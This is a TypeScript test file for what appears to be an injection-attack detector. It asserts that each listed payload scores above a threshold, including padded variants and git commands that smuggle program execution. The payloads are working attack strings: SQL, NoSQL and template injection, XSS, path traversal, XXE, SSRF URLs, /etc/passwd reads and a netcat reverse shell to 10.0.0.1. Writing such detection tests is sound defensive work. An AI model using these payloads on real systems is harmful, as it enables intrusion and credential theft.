import { describe, expect, it } from 'vitest';
import type { Signal } from '../types.ts';
import { DETECTORS } from './index.ts';

function scoreOf(value: string): number {
  const rules = new Map<string, number>();
  const out = { add: ({ rule, weight }: Signal) => void rules.set(rule, weight) };
  for (const { detect } of DETECTORS) detect(value, { place: 'query', name: 'q' }, out);
  return [...rules.values()].reduce((sum, weight) => sum + weight, 0);
}

/** Attacks in the forms in which they come, one a line: each is enough alone. */
const ATTACKS = `1' AND SLEEP(5)#
") or ("a"="a
' UNION SELECT 1,username,password FROM users--
1 and updatexml(1,concat(0x7e,(select user()),0x7e),1)
'||(SELECT CASE WHEN (1=1) THEN TO_CHAR(1/0) ELSE '' END FROM dual)||'
x' and unknown_function(password) and 'a
x' mod id--
x' or email notnull--
x' or email isnull
x' or username like secret escape 'x'
0'XOR(if(now()=sysdate(),sleep(6),0))XOR'Z
1;select pg_sleep(10)
' INTO OUTFILE '/var/www/a.php'--
OR '{"a":"b"}' ? 'a'
<svg/onload=alert\`1\`>
"autofocus onfocus=alert(1)//
<IMG SRC="jav	ascript:alert('x');">
[]['constructor']['constructor']('alert(1)')()
{onerror=alert;throw 1}
;c'a't /e't'c/passwd
|nc -e /bin/sh 10.0.0.1 4444
;cat\${IFS}/etc/passwd
;/???/c?t /???/p??s??
127.0.0.1; sleep 10
& net user a b /add
hello my friend \`whoami\`
() { :; }; /bin/bash -c 'id'
....//....//etc/passwd
php://filter/convert.base64-encode/resource=index.php
..\\..\\windows\\win.ini
require('child_process').execSync("id").toString()
global.process.mainModule.require('fs')
{"password":{"$ne":null}}
' && this.password.match(/.*/)//
{{constructor.constructor('return process')()}}
#{root.process.mainModule.require('child_process').spawnSync('id')}
!{7*7}
\${T(java.lang.Runtime).getRuntime().exec('id')}
<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>
*)(uid=*))(|(uid=*
http://0177.0.0.1/
http://[::ffff:127.0.0.1]/
gopher://127.0.0.1:6379/_x`.split('\n');

describe('attacks', () => {
  it.each(ATTACKS)('%s', (value) => {
    expect(scoreOf(value)).toBeGreaterThanOrEqual(5);
  });

  it('are seen behind talk about git, when git is told to run another program', () => {
    expect(scoreOf('git status && git -c core.pager=id log')).toBeGreaterThanOrEqual(5);
    expect(scoreOf('git add . && id')).toBeGreaterThanOrEqual(5);
    expect(scoreOf('git add . && git push --force')).toBeLessThan(5);
  });

  it('are seen behind padding', () => {
    const missed = ATTACKS.filter(
      (value) => !/^["'|;&()]|\.\.|^http|^php|^gopher|require|global|^OR/.test(value),
    )
      .map((value) => `${'a'.repeat(2_000)} ${value}`)
      .filter((value) => scoreOf(value) < 5);
    expect(missed.map((value) => value.slice(2_000))).toEqual([]);
  });
});
